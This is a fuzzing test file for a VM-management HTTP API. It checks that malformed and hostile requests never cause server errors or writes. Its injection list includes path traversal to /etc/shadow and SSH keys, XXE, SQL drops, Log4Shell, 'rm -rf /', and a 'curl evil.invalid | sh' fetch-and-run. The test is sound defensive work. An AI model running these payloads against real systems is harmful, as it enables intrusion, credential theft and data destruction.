/**
 * Property-based fuzzing of every route in /openapi.json with a valid admin token: malformed, oversized and hostile
 * bodies, path parameters, query strings and headers. Every answer must be a 2xx or a 4xx, never a 5xx; every
 * request to a mutating route is invalid by construction and must get a 4xx; and afterwards no table has changed
 * (content hashes, audit_log included: a refused request writes no audit row) and no workflow was started.
 *
 * The seed and the count are fixed so `npm test` is repeatable; a longer run:
 *   NOVACRON_FUZZ_RUNS=20000 NOVACRON_FUZZ_SEED=$RANDOM npm test -- api/fuzz.test.ts
 */
import type { Client, Connection } from '@temporalio/client';
import fc from 'fast-check';
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import pino from 'pino';
import type { NovacronConfig } from '../config/schema';
import { createMetrics, type NovacronMetrics } from '../observability/metrics';
import { recordClusterBoot } from '../store/cluster-boots';
import { createTestDatabase, temporalClient, testConfig, type TestDatabase } from '../test/support/services';
import { bearer, mintToken } from '../test/support/tokens';
import { buildApp, type BuiltApp } from './app';

const RUNS = Number(process.env.NOVACRON_FUZZ_RUNS ?? 1000);
const SEED = Number(process.env.NOVACRON_FUZZ_SEED ?? 20261122);
const MUTATING = new Set(['POST', 'PUT', 'PATCH', 'DELETE']);

let db: TestDatabase;
let config: NovacronConfig;
let built: BuiltApp;
let client: Client;
let connection: Connection;
let metrics: NovacronMetrics;
let token: string;

before(async () => {
  db = await createTestDatabase();
  config = testConfig({
    databaseUrl: db.url,
    // The fuzzer is one token sending thousands of requests; the rate limit has its own test.
    overrides: { security: { rateLimit: { burst: 1_000_000, refillPerSecond: 1_000_000 } } },
  });
  ({ client, connection } = await temporalClient());
  metrics = createMetrics({ service: 'fuzz-test' });
  built = await buildApp({ config, temporal: client, pool: db.pool, metrics, logger: pino({ level: 'silent' }) });
  token = await mintToken(db.pool, { roles: ['admin'], name: 'fuzzer' });
  // A completed boot makes /ready answer 200; its 503 is a readiness answer, not a server error.
  await recordClusterBoot(db.pool, { workflowId: 'fuzz-boot', nodeId: 'fuzz', status: 'ready', report: {} });
});

after(async () => {
  await built.close();
  await connection.close();
  await db.drop();
});

interface Route {
  method: string;
  template: string;
  pathParams: string[];
  queryParams: string[];
  bodyFields: string[] | undefined;
}

// None of these may appear in an id, a name or a path segment, so a string holding one is always invalid there.
const FORBIDDEN = ['/', '\\', '<', '>', '&', "'", '"', ';', '$', '(', ')', '|', '`', ' ', '\n', '\u0000', '{', '}'];
const forbiddenChar = fc.constantFrom(...FORBIDDEN, '*', '?', '!', '#', '~', '^', '[', ']', '\u202e', '\r');

const INJECTIONS = [
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fshadow',
  '/var/lib/libvirt/images/../../../root/.ssh/id_rsa',
  "vm1</name><devices><disk type='file'><source file='/etc/shadow'/></disk></devices><name>x",
  '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
  ']]><evil/><![CDATA[',
  '$(reboot)',
  '`id`',
  'vm; rm -rf / #',
  'a && curl evil.invalid | sh',
  "' OR '1'='1' --",
  "'); DROP TABLE vms; --",
  '${jndi:ldap://evil.invalid/a}',
  '{{7*7}} %s%n%x',
  'name\u0000.qcow2',
  'line\r\nX-Injected: 1',
];

/** Always contains a forbidden character, so it can never pass a safe-pattern check. */
const hostileString = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.tuple(fc.string({ maxLength: 24 }), forbiddenChar, fc.string({ maxLength: 24 })).map((p) => p.join('')),
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.constantFrom(true, false, null, -1, 0, 2 ** 53, Number.MAX_VALUE, '', 'A'.repeat(100_000)),
  fc.array(hostileString, { maxLength: 5 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
);

function jsonObject(entries: Array<[string, unknown]>): string {
  // Built by hand so that keys like __proto__ reach the server as keys, not as a prototype.
  return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(',')}}`;
}

interface FuzzRequest {
  url: string;
  payload?: string;
  headers: Record<string, string>;
  what: string;
}

/** `{}` or `null` could be a valid body (an init with defaults); random text must never be one. */
function parsesToObjectOrNull(text: string): boolean {
  try {
    const value: unknown = JSON.parse(text);
    return value === null || (typeof value === 'object' && !Array.isArray(value));
  } catch {
    return false;
  }
}

function bodyCase(route: Route): fc.Arbitrary<{ payload: string; contentType: string; what: string }> {
  const known = route.bodyFields ?? [];
  const unknownKey = fc.oneof(
    fc.constantFrom('__proto__', 'constructor', 'isAdmin', 'roles', 'owner', 'role'),
    fc.string({ minLength: 1, maxLength: 30 }),
  );
  const json = 'application/json';
  return fc.oneof(
    // Known fields with hostile values, plus one field the schema does not have: strict objects refuse it.
    fc
      .tuple(
        fc.subarray(known).chain((keys) => fc.tuple(...keys.map((k) => hostileValue.map((v) => [k, v] as const)))),
        unknownKey.filter((k) => !known.includes(k)),
        hostileValue,
      )
      .map(([fields, key, value]) => ({
        payload: jsonObject([...fields.map(([k, v]): [string, unknown] => [k, v]), [key, value]]),
        contentType: json,
        what: `object with unknown field ${JSON.stringify(key)}`,
      })),
    fc
      .constantFrom(
        '{"a":',
        "{'a':1}",
        '[',
        '{"a":1}}',
        '\u0000',
        '{"a":NaN}',
        '{"__proto__":{"x":1}}',
        '[]',
        '"s"',
        '42',
      )
      .map((payload) => ({ payload, contentType: json, what: `malformed or non-object JSON ${payload}` })),
    // Deep nesting as text: the parser and the validator must refuse it without exhausting the stack.
    fc.integer({ min: 1000, max: 20_000 }).map((depth) => ({
      payload: `{"name":${'['.repeat(depth)}${']'.repeat(depth)}}`,
      contentType: json,
      what: `nesting ${depth} deep`,
    })),
    fc
      .string({ minLength: 1, maxLength: 200 })
      .filter((text) => !parsesToObjectOrNull(text))
      .map((payload) => ({ payload, contentType: json, what: 'random text' })),
    fc.integer({ min: 1, max: 4096 }).map((extra) => ({
      payload: jsonObject([['requestId', 'x'.repeat(config.api.bodyLimitBytes + extra)]]),
      contentType: json,
      what: 'oversized body',
    })),
    fc
      .constantFrom('text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data')
      .map((contentType) => ({ payload: INJECTIONS[4]!, contentType, what: `content type ${contentType}` })),
  );
}

function requestCase(route: Route): fc.Arbitrary<FuzzRequest> {
  const mutating = MUTATING.has(route.method);
  // A mutating route is fuzzed with an invalid body when it takes one, otherwise with an invalid path parameter.
  const mustBreakPath = mutating && route.bodyFields === undefined;
  const params = fc
    .tuple(
      ...route.pathParams.map((name) =>
        fc
          .oneof(hostileString, fc.constantFrom('probe-1', '00000000-0000-4000-8000-000000000000'))
          .map((v) => [name, v]),
      ),
    )
    .filter((values) => !mustBreakPath || values.some(([, v]) => /[^A-Za-z0-9_.:-]/.test(v!)));
  const query = fc.oneof(
    fc.constant(''),
    fc
      .array(
        fc.tuple(
          fc.oneof(fc.constantFrom(...route.queryParams, '__proto__', 'limit'), fc.string({ maxLength: 12 })),
          hostileValue,
        ),
        { minLength: 1, maxLength: 4 },
      )
      .map((pairs) =>
        pairs
          .map(
            ([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(typeof v === 'string' ? v : JSON.stringify(v))}`,
          )
          .join('&'),
      ),
    fc.constantFrom('%zz', 'a[b]=1&a[c]=2', '__proto__[admin]=1', 'limit=1&limit=2', '&&&=', 'x=%00'),
  );
  const headers = fc.record(
    { 'x-request-id': hostileString, 'idempotency-key': fc.oneof(hostileString, fc.constant('fuzz-key-1')) },
    { requiredKeys: [] },
  );
  const body = mutating ? (mustBreakPath ? fc.constant(undefined) : bodyCase(route)) : fc.constant(undefined);
  return fc.tuple(params, query, headers, body).map(([values, qs, extraHeaders, b]) => {
    let path = route.template;
    for (const [name, value] of values) path = path.replace(`{${name}}`, encodeURIComponent(value!));
    const url = qs ? `${path}?${qs}` : path;
    return {
      url,
      ...(b ? { payload: b.payload } : {}),
      headers: { ...extraHeaders, ...(b ? { 'content-type': b.contentType } : {}), ...bearer(token) },
      what: `${route.method} ${url.slice(0, 160)} ${b?.what ?? ''}`,
    };
  });
}

async function tableHashes(): Promise<Record<string, string>> {
  const tables = await db.pool.query<{ name: string }>(
    "SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1",
  );
  const hashes: Record<string, string> = {};
  for (const { name } of tables.rows) {
    const result = await db.pool.query<{ n: number; h: string | null }>(
      `SELECT count(*)::int AS n, md5(string_agg(t::text, ',' ORDER BY t::text)) AS h FROM "${name}" t`,
    );
    hashes[name] = `${result.rows[0]!.n}:${result.rows[0]!.h ?? ''}`;
  }
  return hashes;
}

async function workflowStarts(): Promise<number> {
  const metric = await metrics.workflowStarts.get();
  return metric.values.reduce((sum, v) => sum + v.value, 0);
}

test(`fuzz every route (${RUNS} runs, seed ${SEED}): never a 5xx, nothing written, no workflow started`, async () => {
  const doc = (await built.app.inject({ method: 'GET', url: '/openapi.json', headers: bearer(token) })).json<{
    paths: Record<
      string,
      Record<
        string,
        {
          parameters?: Array<{ in: string; name: string }>;
          requestBody?: { content: Record<string, { schema: { properties?: Record<string, unknown> } }> };
        }
      >
    >;
  }>();
  const routes: Route[] = Object.entries(doc.paths).flatMap(([template, ops]) =>
    Object.entries(ops).map(([method, op]) => ({
      method: method.toUpperCase(),
      template,
      pathParams: (op.parameters ?? []).filter((p) => p.in === 'path').map((p) => p.name),
      queryParams: (op.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
      bodyFields: op.requestBody
        ? Object.keys(op.requestBody.content['application/json']?.schema.properties ?? {})
        : undefined,
    })),
  );
  for (const route of routes.filter((r) => MUTATING.has(r.method))) {
    assert.ok(
      route.bodyFields !== undefined || route.pathParams.length > 0,
      `${route.method} ${route.template} takes neither a body nor a path parameter, so no request to it is invalid`,
    );
  }
  // Hostile URLs that match no route at all.
  const strayUrls = fc.constantFrom(
    '/v1/../v1/tokens',
    '//v1//tokens',
    '/v1/tokens/%2e%2e%2f%2e%2e%2f',
    '/v1/%',
    `/v1/${'a'.repeat(10_000)}`,
    '/v1/vms/%00',
    '/%E0%A4%A',
  );

  const before = await tableHashes();
  const startsBefore = await workflowStarts();
  const responses = new Map<number, number>();
  await fc.assert(
    fc.asyncProperty(
      fc.oneof(
        {
          weight: 9,
          arbitrary: fc.constantFrom(...routes).chain((route) => requestCase(route).map((r) => ({ route, r }))),
        },
        {
          weight: 1,
          arbitrary: fc
            .tuple(strayUrls, fc.constantFrom('GET', 'POST', 'DELETE'))
            .map(([url, method]): { route: Route; r: FuzzRequest } => ({
              route: { method, template: url, pathParams: [], queryParams: [], bodyFields: undefined },
              r: { url, headers: bearer(token), what: `${method} ${url.slice(0, 80)}` },
            })),
        },
      ),
      async ({ route, r }) => {
        const response = await built.app.inject({
          method: route.method,
          url: r.url,
          headers: r.headers,
          ...(r.payload !== undefined ? { payload: r.payload } : {}),
        });
        const status = response.statusCode;
        responses.set(status, (responses.get(status) ?? 0) + 1);
        assert.ok(status < 500, `${r.what} -> ${status} ${response.body.slice(0, 300)}`);
        assert.ok(![401, 403, 429].includes(status), `${r.what} -> ${status}: the admin token must pass`);
        if (MUTATING.has(route.method)) {
          assert.ok(status >= 400, `${r.what} is invalid but got ${status} ${response.body.slice(0, 300)}`);
        }
        if (status >= 400) {
          const body = response.json<{ error: string; message: string; requestId: string }>();
          assert.ok(body.error && body.message && body.requestId, `${r.what}: error body ${response.body}`);
        }
      },
    ),
    { seed: SEED, numRuns: RUNS, endOnFailure: true },
  );
  assert.deepEqual(await tableHashes(), before, 'no table changed');
  assert.equal(await workflowStarts(), startsBefore, 'no workflow was started');
  assert.ok((responses.get(400) ?? 0) > RUNS / 4, `mostly validation failures: ${JSON.stringify([...responses])}`);
  assert.ok(
    responses.has(413) && responses.has(415),
    `size and media type limits hit: ${JSON.stringify([...responses])}`,
  );
});
